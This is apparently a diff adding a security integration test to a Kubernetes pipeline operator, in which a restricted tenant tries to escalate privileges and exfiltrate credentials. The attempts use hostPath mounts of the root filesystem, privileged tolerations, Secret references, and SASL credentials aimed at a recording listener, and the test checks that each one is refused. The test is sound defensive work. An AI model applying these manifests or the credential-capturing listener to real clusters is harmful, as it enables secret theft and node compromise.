@@ -7,10 +7,12 @@ on the host."""
 
 from __future__ import annotations
 
+import base64
 import fcntl
 import ipaddress
 import json
 import os
+import secrets
 import subprocess
 import sys
 import time
@@ -23,6 +25,7 @@ import yaml
 
 from eopipe.control.builders import access as access_builders
 from eopipe.control.builders import dedup as dedup_builders
+from eopipe.core.kafkaconf import OPT_IN
 from eopipe.core.names import LABEL_PIPELINE, Names
 from eopipe.core.processing import DEFAULT_MOUNT_PATH as MOUNT_PATH
 from eopipe.core.spec import PipelineSpec
@@ -520,6 +523,408 @@ def test_network_policy_of_a_pipeline_holds(node_tier):
     finally:
         kubectl("delete", "namespace", ns, other_ns, operator_ns, "--wait=false", check=False)
     log(f"network policy test: {time.monotonic() - t0:.0f}s")
+
+
+# -- a hostile tenant --------------------------------------------------------------------------
+# docs/security.md: a tenant who may manage pipelines in its namespace, and nothing else, tries
+# through a pipeline for what it could not reach alone. Its namespace, an "outside" namespace
+# (a listener standing in for an attacker's Kafka, and a pod probing from there).
+TENANT_NS, OUTSIDE_NS = "tenant-t", "tenant-x"
+TENANT = f"system:serviceaccount:{TENANT_NS}:tenant"
+LISTEN_PORT = 9092
+# A Kafka that is not one: accepts, records whatever a client sends (a SASL PLAIN handshake
+# would carry the password), then closes. Each connection is one line on its stdout.
+LISTENER = """import socket
+s = socket.socket()
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("0.0.0.0", %d))
+s.listen(16)
+print("listening", flush=True)
+while True:
+    c, a = s.accept()
+    c.settimeout(2)
+    try:
+        data = c.recv(65536)
+    except OSError:
+        data = b""
+    print("CONNECTION", a[0], data.hex(), flush=True)
+    c.close()
+""" % LISTEN_PORT
+# The chart's resyncSeconds: every pipeline is reconciled again this often (a Secret's change
+# starts no pass of its own).
+RESYNC_SECONDS = yaml.safe_load((REPO_ROOT / "charts" / "eopipe" / "values.yaml").read_text())["resyncSeconds"]
+# What the operator makes for a pipeline <p> in its namespace (named <p>-..., or labelled with it).
+CHILD_KINDS = ("statefulsets,pods,services,configmaps,secrets,serviceaccounts,roles,rolebindings,networkpolicies,"
+               "persistentvolumeclaims")
+
+
+def _merged(base: dict, patch: dict) -> dict:
+    out = dict(base)
+    for k, v in patch.items():
+        out[k] = _merged(out[k], v) if isinstance(v, dict) and isinstance(out.get(k), dict) else v
+    return out
+
+
+def _tenant_doc(name: str, spec: dict | None = None, spark: bool = False) -> dict:
+    """examples/minimal.yaml in the tenant's namespace (its Kafka, kafka.kafka.svc), on a source of
+    its own with 2 partitions, one dedup pod asking for little CPU (the file-sink test's Spark
+    stage still holds most of the node's two cores); `spark`: with the smallest Spark stage."""
+    doc = yaml.safe_load((REPO_ROOT / "examples" / "minimal.yaml").read_text())
+    doc["metadata"] = {"name": name, "namespace": TENANT_NS}
+    doc["spec"]["source"] = {"topic": "tenant-events", "partitions": 2}
+    doc["spec"]["dedup"] = {"resources": {"requests": {"cpu": "50m"}}}
+    if spark:
+        doc["spec"].update(processing={"checkpoint": {"pvc": {"size": "1Gi"}}},
+                           sink={"kafka": {"topic": f"{name}-out"}})
+    return _merged(doc, {"spec": spec or {}})
+
+
+def _as_tenant(*args: str, input: str | None = None) -> subprocess.CompletedProcess:
+    return nodetier.kubectl_as(TENANT, "-n", TENANT_NS, *args, input=input)
+
+
+def _tenant_apply(doc: dict, dry_run: bool = False) -> subprocess.CompletedProcess:
+    return _as_tenant("apply", *(["--dry-run=server"] if dry_run else []), "-f", "-", input=json.dumps(doc))
+
+
+def _condition(name: str, type_: str) -> dict | None:
+    """The pipeline's condition `type_` as of its current generation (None before that pass)."""
+    obj = kubectl_json("-n", TENANT_NS, "get", "exactlyoncepipeline", name)
+    st = obj.get("status") or {}
+    if st.get("observedGeneration") != obj["metadata"]["generation"]:
+        return None
+    return next((c for c in st.get("conditions") or [] if c["type"] == type_), None)
+
+
+def _stalled(name: str, reason: str) -> dict | None:
+    c = _condition(name, "Stalled")
+    return c if c and c["status"] == "True" and c["reason"] == reason else None
+
+
+def _children(pipeline: str, spark_kind: bool, but: tuple[str, ...] = ()) -> list[str]:
+    """Objects of the pipeline's in the tenant's namespace: named <pipeline>-..., or labelled with it."""
+    kinds = CHILD_KINDS + (",sparkapplications" if spark_kind else "")
+    named = [n for n in kubectl("-n", TENANT_NS, "get", kinds, "-o", "name").split()
+             if n.split("/", 1)[1].startswith(f"{pipeline}-")]
+    labelled = kubectl("-n", TENANT_NS, "get", kinds, "-l", f"{LABEL_PIPELINE}={pipeline}", "-o", "name").split()
+    return sorted({n for n in named + labelled if n.split("/", 1)[1] not in but})
+
+
+def _listener_connections() -> list[str]:
+    return [ln for ln in kubectl("-n", OUTSIDE_NS, "logs", "listener").splitlines() if ln.startswith("CONNECTION")]
+
+
+def _install_operator_if_absent(node_tier) -> None:
+    """The operator as test_pipeline_exactly_once_on_the_kubelet installs it, when this test runs alone."""
+    if kubectl("-n", "eopipe-system", "get", "deployment", "eopipe", "-o", "name", check=False).strip():
+        return
+    (repo, tag), (spark_repo, spark_tag) = node_tier["app"].rsplit(":", 1), node_tier["spark"].rsplit(":", 1)
+    helm(_helm_bin(), "install", "eopipe", str(REPO_ROOT / "charts" / "eopipe"), "-n", "eopipe-system",
+         "--create-namespace", "--set", f"image.repository={repo}", "--set", f"image.tag={tag}",
+         "--set", f"sparkImage.repository={spark_repo}", "--set", f"sparkImage.tag={spark_tag}",
+         "--wait", "--timeout", "180s")
+    log("hostile tenant: installed the operator (helm install, as test_pipeline_exactly_once_on_the_kubelet)")
+
+
+def _status_line(r: dict) -> str:
+    if not r["connected"]:
+        return f"no connection ({r['error']})"
+    head = r["response"].split(b"\r\n", 1)[0].decode("latin-1")
+    return head or f"closed without an answer ({r['error'] or 'EOF'})"
+
+
+def test_a_hostile_tenant_gains_nothing(node_tier):
+    """A ServiceAccount that may manage ExactlyOncePipelines (and read ConfigMaps) in tenant-t and
+    nothing else, with `kubectl --as`, against the operator installed by Helm: each attack of
+    docs/security.md is refused at admission (server-side dry-run: the field named), or admitted
+    and then refused by the operator (Stalled, PolicyDenied or Conflict, the field or object
+    named) with no effect: no object made for that pipeline, the admin's objects unchanged, no
+    connection to a listener the pipeline names as its Kafka (with a Secret not opened to it),
+    not on a resync nor on deletion. Opening the Secret to the pipeline makes the same manifest
+    run (the negative control). The state endpoints of a running pipeline's dedup pod answer
+    raw requests without the token 400/401 from the tenant's namespace, from another one and
+    from the pod itself; the token makes the difference. No Secret value and no token ends up in
+    the operator's or the dedup pods' logs, the events or the pipelines' status."""
+    t0 = time.monotonic()
+    _install_operator_if_absent(node_tier)
+    rows: list[tuple[str, str]] = []
+
+    def outcome(attack: str, result: str) -> None:
+        rows.append((attack, result))
+        log(f"hostile tenant: {attack}: {result}")
+
+    bank_password = secrets.token_urlsafe(24)
+    admin_token = secrets.token_urlsafe(32)
+    spark_kind = bool(kubectl("get", "crd", "sparkapplications.sparkoperator.k8s.io", "-o", "name",
+                              check=False).strip())
+
+    def b64(s: str) -> str:
+        return base64.b64encode(s.encode()).decode()
+
+    def pod(name: str, ns: str, command: list[str]) -> dict:
+        return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": ns},
+                "spec": {"terminationGracePeriodSeconds": 0, "containers": [{
+                    "name": "c", "image": node_tier["app"], "imagePullPolicy": "Never", "command": command}]}}
+    setup = [
+        {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": n}} for n in (TENANT_NS, OUTSIDE_NS)] + [
+        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "tenant", "namespace": TENANT_NS}},
+        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
+         "metadata": {"name": "tenant", "namespace": TENANT_NS},
+         "rules": [{"apiGroups": ["eopipe.dev"], "resources": ["exactlyoncepipelines", "exactlyoncepipelines/scale"],
+                    "verbs": ["*"]},
+                   {"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get", "list"]}]},
+        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
+         "metadata": {"name": "tenant", "namespace": TENANT_NS},
+         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "tenant"},
+         "subjects": [{"kind": "ServiceAccount", "name": "tenant", "namespace": TENANT_NS}]},
+        # The admin's: a credential opened to no pipeline, and a Secret named as pipeline grab's
+        # token Secret would be.
+        {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "bank-creds", "namespace": TENANT_NS},
+         "type": "Opaque", "data": {"username": b64("bank"), "password": b64(bank_password)}},
+        {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "grab-dedup-token", "namespace": TENANT_NS},
+         "type": "Opaque", "data": {"token": b64(admin_token)}},
+        pod("probe", TENANT_NS, ["sleep", "3600"]),
+        pod("listener", OUTSIDE_NS, ["python", "-c", LISTENER]),
+    ]
+    try:
+        # create, not apply: apply would keep the Secrets' data in an annotation of theirs.
+        kubectl("create", "-f", "-", input=json.dumps({"apiVersion": "v1", "kind": "List", "items": setup}))
+        # What the tenant may do alone: pipelines yes; Secrets, pods, exec no.
+        for verb, what, want in (("get", "secrets", "no"), ("list", "secrets", "no"), ("create", "pods", "no"),
+                                 ("create", "pods/exec", "no"), ("create", "rolebindings", "no"),
+                                 ("create", "exactlyoncepipelines.eopipe.dev", "yes"),
+                                 ("get", "configmaps", "yes")):
+            said = _as_tenant("auth", "can-i", verb, what).stdout.strip()
+            assert said == want, (verb, what, said)
+        outcome("0 read bank-creds alone", "kubectl auth can-i get/list secrets: no (pipelines: yes)")
+
+        # A pipeline of the tenant's that it may run: started first, it gets Ready meanwhile.
+        assert _tenant_apply(_tenant_doc("minimal")).returncode == 0
+
+        # -- 1-5: refused at admission -------------------------------------------------------------
+        assert _tenant_apply(_tenant_doc("control"), dry_run=True).returncode == 0
+        assert _tenant_apply(_tenant_doc("control", spark=True), dry_run=True).returncode == 0
+        admission = [
+            ("1 sparkConf hostPath volume of /", "spec.processing.sparkConf[spark.kubernetes.driver.volumes.hostPath",
+             _tenant_doc("attack", {"processing": {"sparkConf": {
+                 "spark.kubernetes.driver.volumes.hostPath.x.options.path": "/",
+                 "spark.kubernetes.driver.volumes.hostPath.x.mount.path": "/host"}}}, spark=True)),
+            ("2 driver ServiceAccount default", "spec.processing.serviceAccount",
+             _tenant_doc("attack", {"processing": {"serviceAccount": "default"}}, spark=True)),
+            ("2 driver ServiceAccount tenant", "spec.processing.serviceAccount",
+             _tenant_doc("attack", {"processing": {"serviceAccount": "tenant"}}, spark=True)),
+            ("3 dedup pod env PYTHONWARNINGS", "spec.dedup.podTemplate.env",
+             _tenant_doc("attack", {"dedup": {"podTemplate": {"env": [
+                 {"name": "PYTHONWARNINGS", "value": "error"}]}}})),
+            ("3 envFrom bank-creds without a prefix", "spec.processing.envFrom",
+             _tenant_doc("attack", {"processing": {"envFrom": [{"secretRef": {"name": "bank-creds"}}]}}, spark=True)),
+            ("4 toleration {operator: Exists}", "tolerations",
+             _tenant_doc("attack", {"dedup": {"podTemplate": {"tolerations": [{"operator": "Exists"}]}}})),
+            ("4 priorityClassName system-node-critical", "spec.dedup.podTemplate.priorityClassName",
+             _tenant_doc("attack", {"dedup": {"podTemplate": {"priorityClassName": "system-node-critical"}}})),
+            ("5 dedup.replicas 1000 on 8 partitions", "dedup.replicas",
+             _tenant_doc("attack", {"source": {"partitions": 8}, "dedup": {"replicas": 1000}})),
+        ]
+        for attack, field, doc in admission:
+            res = _tenant_apply(doc, dry_run=True)
+            assert res.returncode != 0 and field in res.stderr, (attack, res.stdout, res.stderr)
+            outcome(attack, f"refused at admission: {res.stderr[res.stderr.index(field):].strip()[:200]}")
+        # The same on an update of a running pipeline, and through the scale subresource.
+        res = _as_tenant("patch", "exactlyoncepipeline", "minimal", "--type=merge", "--dry-run=server", "-p",
+                         json.dumps({"spec": {"dedup": {"podTemplate": {"tolerations": [{"operator": "Exists"}]}}}}))
+        assert res.returncode != 0 and "tolerations" in res.stderr, res
+        outcome("4 toleration added to a running pipeline",
+                f"refused at admission: {res.stderr[res.stderr.index('tolerations'):].strip()[:160]}")
+        res = _as_tenant("scale", "exactlyoncepipeline", "minimal", "--replicas=1000", "--dry-run=server")
+        assert res.returncode != 0 and "dedup.replicas" in res.stderr, res
+        outcome("5 kubectl scale --replicas=1000",
+                f"refused by the CRD: {res.stderr[res.stderr.index('dedup.replicas'):].strip()[:160]}")
+
+        # -- 6: Kafka credentials from bank-creds, sent to a listener of the test's -----------------
+        kubectl("-n", OUTSIDE_NS, "wait", "pod/listener", "--for=condition=Ready", "--timeout=120s", timeout=150)
+        kubectl("-n", TENANT_NS, "wait", "pod/probe", "--for=condition=Ready", "--timeout=120s", timeout=150)
+        listen_ip = kubectl("-n", OUTSIDE_NS, "get", "pod", "listener", "-o", "jsonpath={.status.podIP}")
+        wait(lambda: "listening" in kubectl("-n", OUTSIDE_NS, "logs", "listener"), 30, "the listener")
+        # The listener records a connection (so that silence below means none was made).
+        assert tcp_probe(TENANT_NS, "probe", listen_ip, LISTEN_PORT) == "connected"
+        wait(lambda: len(_listener_connections()) == 1, 10, "the listener to record the probe's connection")
+        exfil = _tenant_doc("exfil", {"deletionPolicy": "Delete", "kafka": {
+            "bootstrapServers": f"{listen_ip}:{LISTEN_PORT}", "securityProtocol": "SASL_PLAINTEXT",
+            "sasl": {"mechanism": "PLAIN", "username": {"name": "kafka-user", "key": "username"},
+                     "password": {"name": "bank-creds", "key": "password"}}}})
+        res = _tenant_apply(exfil)
+        assert res.returncode == 0, res.stderr  # admission cannot see Secrets' opt-in: the operator decides
+        t_exfil = time.monotonic()
+        # -- 7: the dedup pod's env from bank-creds; 8: a pipeline named after the admin's Secret ----
+        leak = _tenant_doc("leak", {"dedup": {"podTemplate": {"env": [
+            {"name": "BANK_PASSWORD", "valueFrom": {"secretKeyRef": {"name": "bank-creds", "key": "password"}}}]}}})
+        assert _tenant_apply(leak).returncode == 0
+        admin_secret = kubectl_json("-n", TENANT_NS, "get", "secret", "grab-dedup-token")["metadata"]
+        assert _tenant_apply(_tenant_doc("grab")).returncode == 0
+        t_grab = time.monotonic()
+
+        st = wait(lambda: _stalled("exfil", "PolicyDenied"), 60, "exfil Stalled (PolicyDenied)")
+        assert "spec.kafka.sasl.password: Secret bank-creds is not open to pipeline exfil" in st["message"], st
+        # A closed Secret reads as a missing one: the status tells the tenant nothing of bank-creds.
+        said = {f: st["message"].split(f"{f}: ", 1)[1].split(";")[0] for f in ("spec.kafka.sasl.username",
+                                                                                "spec.kafka.sasl.password")}
+        assert said["spec.kafka.sasl.username"].replace("kafka-user", "X") == \
+            said["spec.kafka.sasl.password"].replace("bank-creds", "X"), said
+        assert _children("exfil", spark_kind) == []
+        outcome("6 SASL from bank-creds to a listener", f"admitted; Stalled/PolicyDenied: {st['message'][:220]}")
+        # The username's Secret, made now by the admin and opened to exfil: the next resync sees it
+        # (a Secret's change starts no pass) and must still refuse the password's.
+        kubectl("-n", TENANT_NS, "create", "secret", "generic", "kafka-user", "--from-literal=username=bank")
+        kubectl("-n", TENANT_NS, "annotate", "secret", "kafka-user", f"{OPT_IN}=exfil")
+
+        st = wait(lambda: _stalled("leak", "PolicyDenied"), 60, "leak Stalled (PolicyDenied)")
+        assert "spec.dedup.podTemplate.env[0].valueFrom.secretKeyRef: Secret bank-creds is not open to pipeline leak" \
+            in st["message"], st
+        assert _children("leak", spark_kind) == []
+        outcome("7 dedup env secretKeyRef bank-creds",
+                f"admitted; Stalled/PolicyDenied, nothing made: {st['message'][:160]}")
+
+        st = wait(lambda: _stalled("grab", "Conflict"), 90, "grab Stalled (Conflict)")
+        assert f"Secret {TENANT_NS}/grab-dedup-token exists and is not this pipeline's" in st["message"], st
+        assert _children("grab", spark_kind, but=("grab-dedup-token",)) == []
+        outcome("8 pipeline grab over the admin's Secret grab-dedup-token",
+                f"Stalled/Conflict, nothing made: {st['message'][:120]}")
+
+        # -- 9: the negative control: bank-creds opened to leak, the same manifest runs -------------
+        kubectl("-n", TENANT_NS, "annotate", "secret", "bank-creds", f"{OPT_IN}=leak")
+        assert _tenant_apply(leak).returncode == 0  # unchanged: the next resync takes the opt-in
+
+        # -- 10: the state endpoints of the tenant's running pipeline -------------------------------
+        t = time.monotonic()
+        wait(lambda: _settled(TENANT_NS, "minimal"), 180, "the tenant's pipeline minimal Ready")
+        log(f"hostile tenant: minimal Ready after {time.monotonic() - t:.0f}s more")
+        dedup_pod = "minimal-dedup-0"
+        dedup_ip = kubectl("-n", TENANT_NS, "get", "pod", dedup_pod, "-o", "jsonpath={.status.podIP}")
+        token = base64.b64decode(kubectl("-n", TENANT_NS, "get", "secret", "minimal-dedup-token", "-o",
+                                         "jsonpath={.data.token}")).decode()
+        # Keys in its state, so that key bytes in an answer would show.
+        keys = [f"tenant-key-{secrets.token_hex(8)}" for _ in range(40)]
+        nodetier.python("from confluent_kafka import Producer\n"
+                        f"p = Producer({{'bootstrap.servers': '{BOOTSTRAP}'}})\n"
+                        f"[p.produce('tenant-events', key=k, value=b'{{}}') for k in {keys!r}]\n"
+                        "assert p.flush(30) == 0")
+
+        def consumed() -> bool:
+            r = nodetier.http_raw(TENANT_NS, dedup_pod, dedup_ip, 8080, [b"GET /status HTTP/1.0\r\n\r\n"])[0]
+            try:
+                status = json.loads(r.get("response", b"").split(b"\r\n\r\n", 1)[1])
+            except (IndexError, ValueError):
+                return False
+            return status.get("counts", {}).get("consumed", 0) >= len(keys)
+        wait(consumed, 60, "the dedup pod to consume the keyed records", interval=2)
+        wrong = secrets.token_urlsafe(32).encode()
+        attacks = {"GET snapshots/0 HTTP/1.0": b"GET snapshots/0 HTTP/1.0\r\n\r\n",
+                   "GET //snapshots/0 HTTP/1.1": b"GET //snapshots/0 HTTP/1.1\r\nHost: x\r\n\r\n",
+                   "GET /snapshots/0 HTTP/1.1": b"GET /snapshots/0 HTTP/1.1\r\nHost: x\r\n\r\n",
+                   "GET /snapshots/1 HTTP/1.1, a wrong token": (b"GET /snapshots/1 HTTP/1.1\r\nHost: x\r\n"
+                                                                b"Authorization: Bearer " + wrong + b"\r\n\r\n"),
+                   "GET /reshard/1/0/1 HTTP/1.1": b"GET /reshard/1/0/1 HTTP/1.1\r\nHost: x\r\n\r\n",
+                   "GET /snapshots/0 (HTTP/0.9)": b"GET /snapshots/0\r\n"}
+        for origin, ns, pod_name, container in (("a pod in tenant-t", TENANT_NS, "probe", None),
+                                                ("a pod in tenant-x", OUTSIDE_NS, "listener", None),
+                                                ("the dedup pod itself", TENANT_NS, dedup_pod, None)):
+            answers = nodetier.http_raw(ns, pod_name, dedup_ip, 8080, list(attacks.values()), container=container)
+            for (what, _), r in zip(attacks.items(), answers):
+                line = _status_line(r)
+                resp = r.get("response", b"")
+                assert not r["connected"] or resp == b"" or line.split()[1] in ("400", "401"), (origin, what, line)
+                assert not any(k.encode() in resp for k in keys) and b"application/octet-stream" not in resp, \
+                    (origin, what, resp[:300])
+                outcome(f"10 {what} from {origin}", line)
+        # The token makes the difference (the pod's own state endpoint, as a peer asks it).
+        authed, status = nodetier.http_raw(TENANT_NS, dedup_pod, dedup_ip, 8080, [
+            b"GET /snapshots/0 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + token.encode() + b"\r\n\r\n",
+            b"GET /status HTTP/1.0\r\n\r\n"])
+        assert _status_line(status).split()[1] == "200", _status_line(status)
+        assert _status_line(authed).split()[1] not in ("400", "401", "403"), _status_line(authed)
+        outcome("10 control: /snapshots/0 with the token, /status", f"{_status_line(authed)}; {_status_line(status)}")
+
+        # -- 9 (cont.): the resync took the opt-in: leak's dedup pod runs with bank-creds -----------
+        st = wait(lambda: (c := _condition("leak", "Stalled")) and c["status"] == "False" and c, 120,
+                  "leak no longer stalled once bank-creds is opened to it")
+        sts = kubectl_json("-n", TENANT_NS, "get", "statefulset", "leak-dedup")
+        env = sts["spec"]["template"]["spec"]["containers"][0]["env"]
+        assert {"name": "BANK_PASSWORD", "valueFrom": {"secretKeyRef": {"name": "bank-creds", "key": "password"}}} \
+            in env, env
+        outcome("9 control: bank-creds opened to leak", "same manifest accepted: StatefulSet leak-dedup made "
+                                                        "with the secretKeyRef")
+
+        # -- 6 (cont.): nothing reached the listener, 30 s on and after a resync ------------------------
+        time.sleep(max(0.0, 30 - (time.monotonic() - t_exfil)))
+        assert len(_listener_connections()) == 1, _listener_connections()
+        outcome("6 after 30 s", "the listener got no connection")
+        st = wait(lambda: (c := _stalled("exfil", "PolicyDenied")) and "spec.kafka.sasl.username" not in c["message"]
+                  and c, 120, "a resync of exfil (the username's Secret, opened, no longer refused)")
+        assert "spec.kafka.sasl.password: Secret bank-creds is not open to pipeline exfil" in st["message"], st
+        assert len(_listener_connections()) == 1, _listener_connections()
+        assert _children("exfil", spark_kind) == []
+        outcome("6 after a resync, kafka-user opened to exfil",
+                f"the listener got no connection; Stalled/PolicyDenied: {st['message'][:110]}")
+        # Deletion with deletionPolicy Delete connects to Kafka too (to delete the topics the
+        # operator recorded creating). A record as a pipeline has once it ran, before the tenant
+        # pointed it at the listener (written here by the admin: the tenant cannot write status).
+        kubectl("-n", TENANT_NS, "patch", "exactlyoncepipeline", "exfil", "--subresource=status", "--type=merge",
+                "-p", json.dumps({"status": {"ownedTopics": [f"{TENANT_NS}.exfil.deduped"]}}))
+        res = _as_tenant("delete", "exactlyoncepipeline", "exfil", "--timeout=90s")
+        assert res.returncode == 0, res.stderr
+
+        def retained() -> list[str]:
+            events = kubectl_json("-n", TENANT_NS, "get", "events", "--field-selector", "involvedObject.name=exfil")
+            return [e["message"] for e in events["items"] if e.get("reason") == "TopicsRetained"
+                    and "Secret bank-creds is not open to pipeline exfil" in e["message"]]
+        retained = wait(retained, 30, "the event TopicsRetained naming the Secret not open to exfil")
+        assert len(_listener_connections()) == 1, _listener_connections()
+        outcome("6 kubectl delete (deletionPolicy Delete)",
+                f"no connection; event TopicsRetained: {retained[0][:140]}")
+
+        # -- 8 (cont.): the admin's Secret as it was, after a resync of grab ---------------------------
+        time.sleep(max(0.0, RESYNC_SECONDS + 5 - (time.monotonic() - t_grab)))
+        assert _stalled("grab", "Conflict")
+        now = kubectl_json("-n", TENANT_NS, "get", "secret", "grab-dedup-token")
+        assert now["metadata"]["resourceVersion"] == admin_secret["resourceVersion"], now["metadata"]
+        assert not now["metadata"].get("ownerReferences") and now["data"] == {"token": b64(admin_token)}
+        outcome("8 after a resync", f"grab-dedup-token unchanged (resourceVersion {admin_secret['resourceVersion']}, "
+                                    "no ownerReference)")
+
+        # -- 11: no Secret value in logs, events or status ---------------------------------------------
+        leak_token = base64.b64decode(kubectl("-n", TENANT_NS, "get", "secret", "leak-dedup-token", "-o",
+                                              "jsonpath={.data.token}")).decode()
+        values = {"bank-creds password": bank_password, "minimal's token": token, "leak's token": leak_token,
+                  "the admin's grab-dedup-token": admin_token}
+        leader = kubectl("-n", "eopipe-system", "get", "lease", "eopipe-leader", "-o",
+                         "jsonpath={.spec.holderIdentity}")
+        texts = {f"operator {p}": kubectl("-n", "eopipe-system", "logs", p, "--all-containers")
+                 for p in kubectl("-n", "eopipe-system", "get", "pods", "-o", "name").split()}
+        assert f"operator pod/{leader}" in texts and "reconciled" in texts[f"operator pod/{leader}"], list(texts)
+        try:
+            wait(lambda: "Running" in kubectl("-n", TENANT_NS, "get", "pod", "leak-dedup-0", "-o",
+                                              "jsonpath={.status.phase}", check=False), 90, "leak's dedup pod running")
+        except AssertionError as e:
+            raise AssertionError(f"{e}\n{kubectl('-n', TENANT_NS, 'describe', 'pod', 'leak-dedup-0', check=False)}\n"
+                                 f"{kubectl('describe', 'node', check=False)[-3000:]}") from None
+        for p in kubectl("-n", TENANT_NS, "get", "pods", "-l", LABEL_PIPELINE, "-o", "name").split():
+            texts[f"tenant-t {p}"] = kubectl("-n", TENANT_NS, "logs", p, "--all-containers")
+        texts["events -A"] = kubectl("get", "events", "-A", "-o", "json")
+        texts["tenant-t pipelines"] = kubectl("-n", TENANT_NS, "get", "exactlyoncepipelines", "-o", "json")
+        texts["listener"] = kubectl("-n", OUTSIDE_NS, "logs", "listener")
+        assert any(p.startswith("tenant-t pod/leak-dedup") for p in texts) and \
+            any(p.startswith("tenant-t pod/minimal-dedup") for p in texts), list(texts)
+        found = [(what, where) for what, v in values.items() for where, text in texts.items()
+                 for form in (v, b64(v), v.encode().hex()) if form in text]
+        assert not found, found
+        outcome("11 Secret values in logs/events/status",
+                f"none of {len(values)} values in {len(texts)} texts ({', '.join(texts)})")
+    finally:
+        kubectl("-n", TENANT_NS, "delete", "exactlyoncepipelines", "--all", "--timeout=90s", check=False, timeout=120)
+        kubectl("delete", "namespace", TENANT_NS, OUTSIDE_NS, "--wait=false", check=False)
+        width = max((len(a) for a, _ in rows), default=0)
+        log("hostile tenant: outcomes\n" + "\n".join(f"  {a:<{width}}  {r}" for a, r in rows))
+        log(f"hostile tenant test: {time.monotonic() - t0:.0f}s")
 
 
 def test_down_leaves_nothing_behind(node_tier):
